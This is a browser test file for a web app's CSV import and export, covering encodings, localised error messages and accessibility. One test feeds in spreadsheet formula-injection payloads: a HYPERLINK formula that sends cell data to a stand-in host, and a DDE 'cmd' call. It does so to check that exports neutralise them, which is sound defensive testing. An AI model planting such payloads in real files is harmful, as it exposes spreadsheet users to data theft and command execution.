// Tables as datasets: a CSV opens when named by data=, picked or dropped (in UTF-8 or Excel's
// UTF-16 "Unicode text", or in the Windows code pages Excel's plain "CSV" uses, read by the
// browser's own decoders); the export opens again as the same events; a broken table lists
// every problem by row and column in the reader's language; the template downloads and opens.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  ROOT, assertClean, bundledDataset, download, exportEntry, openApp, openPage, screenshot, seriousAccessibilityViolations, serverAndBrowser,
} from './harness.mjs';

const SHEET = [
  'id,title_en,title_zh,start,countries,organizations,latitude,longitude,city,country,notes',
  'visit-a,"Visit, with ""quotes""\nand a second line",访问,2024/5/26,CN; FR,CAS; Lab of Tables,48.57,7.75,Strasbourg,FR,internal',
  'seminar-b,Online seminar,,2024年6月,CN; RU,CAST,,,,,',
].join('\r\n');

// Tables written by the native tests (tests/table.rs) from UTF-8 sources in each encoding.
const ENCODED = join(ROOT, 'tests/fixtures/encodings');
const ENCODED_FILES = [
  'gb18030.csv', 'big5.csv', 'windows-1252.csv', 'simplified.csv', 'traditional.csv', 'western.csv',
  'gb18030-short.csv', 'simplified-short.csv', 'big5-short.csv', 'traditional-short.csv',
];

const env = serverAndBrowser({
  files: {
    'data/sheet.csv': { content: SHEET },
    ...Object.fromEntries(ENCODED_FILES.map((name) => [`data/${name}`, { path: join(ENCODED, name) }])),
  },
});

const resultCount = (page, n) => page.locator('#result-count').getByText(`${n} of ${n} events`).waitFor();

async function pick(page, name, buffer, mimeType = 'text/csv') {
  await page.locator('input[type=file]').setInputFiles({ name, mimeType, buffer });
}

test('a CSV named by data= opens with its columns read, the unknown one named, its text kept as text', async () => {
  const { page, context, problems } = await openApp(env.browser, env.server, '?data=data%2Fsheet.csv');
  await resultCount(page, 2);
  const notice = page.getByRole('status').filter({ hasText: 'not read' });
  assert.equal(await notice.locator('p').innerText(), 'data/sheet.csv: these columns were not read: notes');
  await page.locator('.event-row', { hasText: 'Visit, with "quotes"' }).getByRole('link').click();
  const panel = page.locator('.panel__event');
  await panel.getByRole('heading', { name: /Visit, with "quotes"/ }).waitFor();
  assert.match(await panel.innerText(), /Lab of Tables/);
  assert.match(await panel.innerText(), /26 May 2024/);
  // A table gives no topics and no source here: the panel shows no empty headings for them.
  assert.equal(await panel.getByRole('heading', { name: /^(Topics|Source)$/ }).count(), 0);
  await screenshot(page, 'table-import-data');
  await notice.getByRole('button', { name: 'Dismiss' }).click();
  await notice.waitFor({ state: 'detached' });
  assertClean(problems);
  await context.close();
});

test('the CSV export, picked again, is the same events; Excel\'s UTF-16 tab-separated text opens when dropped', async () => {
  const { page, context, problems } = await openApp(env.browser, env.server, '');
  const bundled = bundledDataset();
  const exported = await download(page, await exportEntry(page, `Export ${bundled.events.length} events`, 'Spreadsheet (.csv)'));
  await pick(page, exported.name, exported.bytes);
  await resultCount(page, bundled.events.length);
  const ids = await page.locator('.event-row').evaluateAll((rows) => rows.map((r) => r.dataset.eventId).sort());
  assert.deepEqual(ids, bundled.events.map((e) => e.id).sort());

  const tsv = SHEET.replace(/,/g, '\t').replace('Visit\t with', 'Visit, with');
  const dropped = await page.evaluateHandle((bytes) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([new Uint8Array(bytes)], 'sheet.txt', { type: 'text/plain' }));
    return transfer;
  }, [...Buffer.from(`\ufeff${tsv}`, 'utf16le')]);
  await page.dispatchEvent('body', 'drop', { dataTransfer: dropped });
  await resultCount(page, 2);
  await page.locator('.event-row', { hasText: 'Online seminar' }).waitFor();
  assertClean(problems);
  await context.close();
});

test('a broken table lists every problem by row and column, in the chosen language', async () => {
  const { page, context, problems } = await openApp(env.browser, env.server, '');
  const broken = 'title_en,start,countries\nFine,2024,CN\nLeap,2024-02-30,CN\nOld,26/05/2024,UK\n';
  await pick(page, 'broken.csv', Buffer.from(broken));
  const alert = page.getByRole('alert');
  await alert.getByText('The dataset broken.csv could not be loaded').waitFor();
  const lines = await alert.locator('li').allInnerTexts();
  assert.deepEqual(lines, [
    'row 3, column start: "2024-02-30": month 2 of 2024 has 29 days',
    'row 4, column start: "26/05/2024" puts the year last, which some read day first and others month first: write the year first, as YYYY-MM-DD',
    'row 4, column countries: "UK" is not an ISO 3166-1 alpha-2 country code (use "GB")',
  ]);
  await screenshot(page, 'table-import-errors');
  await page.getByRole('button', { name: '简体中文' }).click();
  await alert.getByText('第 3 行，start 列：“2024-02-30”：2024年2月只有 29 天').waitFor();
  await screenshot(page, 'table-import-errors-zh');
  // The header and the rest of the page keep working: the bundled dataset is one link away.
  await alert.getByRole('link').click();
  await page.locator('.event-row').first().waitFor();
  assertClean(problems);
  await context.close();
});

test('the template downloads with the columns and two example rows, and opens as two events', async () => {
  const { page, context, problems } = await openApp(env.browser, env.server, '');
  const button = page.getByRole('button', { name: 'CSV template' });
  assert.match(await button.getAttribute('aria-describedby').then((id) => page.locator(`#${id}`).textContent()), /two example rows/);
  const template = await download(page, button);
  assert.equal(template.name, 'cooperation-atlas-template.csv');
  const text = template.bytes.toString('utf8');
  assert.ok(text.startsWith('\ufeffid,title_en,title_zh,start,end,precision,mode,venue,city,country,latitude,longitude,countries,organizations,topics,summary,link\r\n'));
  assert.equal(text.trim().split('\r\n').length, 3);
  await pick(page, template.name, template.bytes);
  await resultCount(page, 2);
  await page.getByRole('button', { name: /Filters/ }).first().isVisible();
  assert.ok(await page.getByText('Tomsk Polytechnic University').count() > 0, 'the new organization is a filter');
  assertClean(problems);
  await context.close();
});

test('formula-like titles are exported as text, and the export opens as the same titles', async () => {
  const { page, context, problems } = await openApp(env.browser, env.server, '');
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1;"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
  const quoted = (cell) => `"${cell.replace(/"/g, '""')}"`;
  const sheet = ['id,title_en,start,countries', ...hostile.map((title, i) => `h${i},${quoted(title)},2024-05-2${i},CN`)].join('\r\n');
  await pick(page, 'hostile.csv', Buffer.from(sheet));
  await resultCount(page, hostile.length);
  const exported = await download(page, await exportEntry(page, `Export ${hostile.length} events`, 'Spreadsheet (.csv)'));
  // Split the written CSV into cells (quoted cells may hold separators and doubled quotes).
  const cells = [...exported.bytes.toString('utf8').replace(/^\ufeff/, '').matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)]
    .map((m) => m[1].replace(/^"|"$/g, '').replace(/""/g, '"'));
  const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)));
  assert.deepEqual(live, [], 'no cell starts a formula');
  for (const title of hostile) assert.ok(cells.includes(`'${title}`), `${title} is written behind an apostrophe`);
  await pick(page, exported.name, exported.bytes);
  await resultCount(page, hostile.length);
  const titles = await page.locator('.event-row__title').allInnerTexts();
  assert.deepEqual(titles.sort(), [...hostile].sort(), 'the titles read back as they were');
  assertClean(problems);
  await context.close();
});

/** The events the list shows, as "id | title", sorted: what a table opened as. */
async function shownEvents(page, count) {
  // The count above the list is in the filter drawer on a phone: count the rows.
  await page.waitForFunction((n) => document.querySelectorAll('.event-row').length === n, count);
  const rows = await page.locator('.event-row').evaluateAll((rows) =>
    rows.map((r) => `${r.dataset.eventId} | ${r.querySelector('.event-row__title').innerText}`));
  return rows.sort();
}

/** How many events a UTF-8 source table holds: its lines but the header. */
function sourceRows(source) {
  return readFileSync(join(ENCODED, source), 'utf8').trim().split('\n').length - 1;
}

/** The events a page shows for `data/NAME`, opened by data=, with the page. */
async function openTable(name, count, options) {
  const session = await openApp(env.browser, env.server, `?data=data%2F${name}`, options);
  return { ...session, events: await shownEvents(session.page, count) };
}

const CODE_PAGES = [
  { file: 'gb18030.csv', source: 'simplified.csv', named: 'GB18030', windows: 'Simplified Chinese Windows', others: ['Windows-1252'] },
  { file: 'big5.csv', source: 'traditional.csv', named: 'Big5', windows: 'Traditional Chinese Windows', others: ['GB18030', 'Windows-1252'] },
  { file: 'windows-1252.csv', source: 'western.csv', named: 'Windows-1252', windows: 'Western Windows', others: [] },
  { file: 'gb18030-short.csv', source: 'simplified-short.csv', named: 'GB18030', windows: 'Simplified Chinese Windows' },
  { file: 'big5-short.csv', source: 'traditional-short.csv', named: 'Big5', windows: 'Traditional Chinese Windows' },
];

test('tables in GBK, Big5 and Windows-1252 open by data= as the events of their UTF-8 sources, and the notice names the code page', async () => {
  for (const { file, source, named, windows, others } of CODE_PAGES) {
    const count = sourceRows(source);
    const expected = await openTable(source, count);
    assert.equal(await expected.page.getByRole('status').filter({ hasText: 'was read as' }).count(), 0, 'UTF-8 needs no notice');
    await expected.context.close();

    const { page, context, problems, events } = await openTable(file, count, { width: 1280, height: 720 });
    assert.deepEqual(events, expected.events, `${file}: the browser's decoder gives the events of ${source}`);
    const notice = page.getByRole('status').filter({ hasText: 'was read as' });
    assert.equal(await notice.locator('p').first().innerText(), `data/${file} was read as ${named}, as Excel saves “CSV” on ${windows}`);
    if (others) {
      // The other code pages that read it, as the native reader finds them (tests/table.rs).
      const offered = await notice.getByRole('button', { name: /^Read as / }).allInnerTexts();
      assert.deepEqual(offered, others.map((other) => `Read as ${other}`), file);
    }
    if (file === 'big5.csv') await screenshot(page, 'table-import-big5');
    assertClean(problems);
    await context.close();
  }
});

test('a picked Big5 table read again as GB18030 fails on its dates, and Big5 brings its events back; in Chinese, on a phone', async () => {
  const count = sourceRows('traditional.csv');
  const expected = await openTable('traditional.csv', count);
  await expected.context.close();

  const { page, context, problems } = await openApp(env.browser, env.server, '?lang=zh-Hans', { width: 390, height: 844, touch: true });
  await pick(page, 'big5.csv', readFileSync(join(ENCODED, 'big5.csv')));
  const notice = page.getByRole('status').filter({ hasText: '已按 Big5 读取' });
  await notice.waitFor();
  assert.equal(await notice.locator('p').first().innerText(), 'big5.csv 已按 Big5 读取：繁体中文 Windows 上的 Excel 以此编码保存“CSV”');
  const buttons = notice.getByRole('button');
  for (const box of await buttons.evaluateAll((all) => all.map((b) => b.getBoundingClientRect()))) {
    assert.ok(box.height >= 44 && box.width >= 44, `touch target ${box.width}x${box.height}`);
  }
  await screenshot(page, 'table-import-big5-phone-zh');

  // GB18030 reads the same bytes as other characters: 2024年6月 is no longer a date.
  await notice.getByRole('button', { name: '按 GB18030 读取' }).click();
  const alert = page.getByRole('alert');
  await alert.getByText('big5.csv 已按 GB18030 读取').waitFor();
  assert.match(await alert.locator('li').first().innerText(), /^第 2 行，start 列：/);
  await screenshot(page, 'table-import-big5-as-gb18030-phone-zh');

  // The keyboard reaches the way back.
  const back = alert.getByRole('button', { name: '按 Big5 读取' });
  await back.focus();
  await page.keyboard.press('Enter');
  await notice.waitFor();
  // On a phone the languages are one menu.
  await page.locator('.site-header').getByRole('combobox').selectOption('en');
  assert.deepEqual(await shownEvents(page, count), expected.events);
  assertClean(problems);
  await context.close();
});

test('the notice and its buttons pass axe', async () => {
  const { page, context, problems } = await openPage(env.browser, env.server, { bypassCSP: true });
  await page.goto(env.server.url('?data=data%2Fgb18030.csv'));
  await page.getByRole('status').filter({ hasText: 'was read as GB18030' }).waitFor();
  await screenshot(page, 'table-import-gb18030-laptop');
  assert.deepEqual(await seriousAccessibilityViolations(page), []);
  assertClean(problems);
  await context.close();
});

test('a header without rows, an unclosed quote and a row with too many cells are named, in English and Chinese', async () => {
  const { page, context, problems } = await openApp(env.browser, env.server, '', { width: 1280, height: 720 });
  const alert = page.getByRole('alert');
  const cases = [
    ['empty.csv', 'title_en,start,countries\r\n', ['empty.csv: the file names the columns but holds no events'], ['empty.csv：文件写明了各列名称，但没有任何活动']],
    [
      'quote.csv', 'title_en,start,countries\nFine,2024,CN\n"Open,2024,CN\nLater,2024,FR\n',
      ['row 3, column title_en: a quote opens this cell and never closes, so the rest of the file was read into it'],
      ['第 3 行，title_en 列：引号在此单元格开始但没有闭合，文件其余部分都读进了这一格'],
    ],
    [
      'cells.csv', 'title_en,start,countries\nVisit, with a comma,2024,CN\nFine,2024,CN\n',
      ['row 2: 4 cells for 3 columns: put a cell that holds the separator in quotes'],
      ['第 2 行：4 个单元格，但只有 3 列：含分隔符的单元格须加引号'],
    ],
  ];
  for (const [name, text, english, chinese] of cases) {
    await page.getByRole('button', { name: 'English' }).click();
    await pick(page, name, Buffer.from(text));
    await alert.getByText(`The dataset ${name} could not be loaded`).waitFor();
    assert.deepEqual(await alert.locator('li').allInnerTexts(), english);
    await screenshot(page, `table-import-${name}`);
    await page.getByRole('button', { name: '简体中文' }).click();
    await alert.locator('li').first().getByText(chinese[0]).waitFor();
    assert.deepEqual(await alert.locator('li').allInnerTexts(), chinese);
    await screenshot(page, `table-import-${name}-zh`);
  }
  assertClean(problems);
  await context.close();
});

// Issue #28: rows written as people write them. Countries as names in English, 简体 and 繁體,
// parted by `；`, `、`, a comma in a quoted cell or `/`; organizations parted by `、`.
const PEOPLES_SHEET = [
  'title_en,start,countries,organizations,latitude,longitude,city,country',
  'Full-width semicolons,2024-05-01,中国；法国,中国科学院、CNRS,48.57,7.75,Strasbourg,法国',
  'Traditional names,2024-05-02,中國、法國,,,,,',
  'Names in a quoted cell,2024-05-03,"China, France",,,,,',
  'Codes with a slash,2024-05-04,cn/FR,,,,,',
  'Codes in a quoted cell,2024-05-05,"CN,FR",,,,,',
].join('\r\n');

// A row with only a Chinese title and summary, which the panel showed twice.
const CHINESE_TITLE = '中法材料科学对话';
const CHINESE_SUMMARY = '两国学者讨论材料科学合作。';
const CHINESE_ONLY_SHEET = `title_en,title_zh,start,countries,summary\r\nIn English,英文活动,2024-05-01,CN; FR,\r\n,${CHINESE_TITLE},2024-05-06,CN; FR,${CHINESE_SUMMARY}\r\n`;

const VIEWS = [
  ['en', { width: 1280, height: 720 }],
  ['zh-Hans', { width: 1280, height: 720 }],
  ['en', { width: 390, height: 844, touch: true }],
  ['zh-Hans', { width: 390, height: 844, touch: true }],
];

/** How many times `text` occurs in `haystack`. */
const occurrences = (haystack, text) => haystack.split(text).length - 1;

/** Opens the atlas in `lang` at `viewport`, picks `sheet` and waits for its `rows` events. */
async function openSheet(lang, viewport, sheet, rows) {
  const session = await openApp(env.browser, env.server, `?lang=${lang}`, viewport);
  await pick(session.page, 'people.csv', Buffer.from(sheet));
  const counted = lang === 'en' ? `${rows} of ${rows} events` : `${rows} 个活动中的 ${rows} 个`;
  // On a phone the count is in the closed filter drawer.
  await session.page.locator('#result-count').getByText(counted).waitFor({ state: 'attached' });
  return session;
}

/** Opens the event of the list row holding `text`, with a tap on a phone. */
async function openRow(page, text, phone) {
  const link = page.locator('.event-row', { hasText: text }).getByRole('link');
  await (phone ? link.tap() : link.click());
}

test('a sheet with countries as names and each separator opens, in English and 简体中文, on a laptop and a phone', async () => {
  const rows = PEOPLES_SHEET.split('\r\n').length - 1;
  for (const [lang, viewport] of VIEWS) {
    const { page, context, problems } = await openSheet(lang, viewport, PEOPLES_SHEET, rows);
    // Every row takes part with China and France: each country's facet counts all of them.
    const [china, france] = lang === 'en' ? ['China', 'France'] : ['中国', '法国'];
    for (const name of [china, france]) {
      assert.equal(await page.getByRole('checkbox', { name: `${name} ${rows}`, exact: true, includeHidden: true }).count(), 1, `${name} ${rows}`);
    }
    await openRow(page, 'Full-width semicolons', viewport.width < 500);
    const panel = page.locator('.panel__event');
    await panel.getByRole('heading', { name: 'Full-width semicolons' }).waitFor();
    assert.match(await panel.locator('.panel__facts').innerText(), lang === 'en' ? /China, France/ : /中国、法国/);
    assert.match(await panel.innerText(), /CNRS/);
    assert.equal(await panel.locator('.panel__list li').count(), 2, 'two organizations');
    await screenshot(page, `table-import-names-${lang}-${viewport.width}`);
    assertClean(problems);
    await context.close();
  }
});

test('a row with only a Chinese title and summary shows each once in the panel', async () => {
  for (const [lang, viewport] of VIEWS) {
    const { page, context, problems } = await openSheet(lang, viewport, CHINESE_ONLY_SHEET, 2);
    await openRow(page, CHINESE_TITLE, viewport.width < 500);
    const panel = page.locator('.panel__event');
    await panel.getByRole('heading', { name: CHINESE_TITLE }).waitFor();
    const text = await panel.innerText();
    assert.equal(occurrences(text, CHINESE_TITLE), 1, text);
    assert.equal(occurrences(text, CHINESE_SUMMARY), 1, text);
    assert.equal(await panel.locator('.panel__event-title-other, .panel__summary--other').count(), 0);
    // Tagged as the Chinese it is, whatever the interface language.
    assert.equal(await panel.locator('#panel-event-title [lang]').first().getAttribute('lang'), 'zh-Hans');
    await screenshot(page, `table-import-chinese-only-${lang}-${viewport.width}`);
    assertClean(problems);
    await context.close();
  }
});

test('a country that cannot be read names the separator and suggests the code, in the chosen language', async () => {
  const { page, context, problems } = await openApp(env.browser, env.server, '', { width: 1280, height: 720 });
  const sheet = 'title_en,start,countries\nTypo,2024-05-01,中国；Frnace\nNo separator,2024-05-02,中国 法国\n';
  await pick(page, 'typo.csv', Buffer.from(sheet));
  const alert = page.getByRole('alert');
  await alert.getByText('The dataset typo.csv could not be loaded').waitFor();
  assert.deepEqual(await alert.locator('li').allInnerTexts(), [
    'row 2, column countries: the cell was read as 2 countries separated by "；", and "Frnace" is neither a two-letter ISO 3166-1 country code nor a country name; did you mean "France" (FR)?',
    'row 3, column countries: "中国 法国" is neither a two-letter ISO 3166-1 country code nor a country name; to list several countries, separate them with semicolons (; or ；), the list comma 、, commas or slashes (/)',
  ]);
  await screenshot(page, 'table-import-country-typo');
  await page.getByRole('button', { name: '简体中文' }).click();
  await alert.getByText('第 2 行，countries 列：此格按“；”分成 2 个国家/地区，其中“Frnace”既不是 ISO 3166-1 两字母国家/地区代码，也不是国家/地区名称；是否指“France”（FR）？').waitFor();
  await screenshot(page, 'table-import-country-typo-zh');
  assertClean(problems);
  await context.close();
});
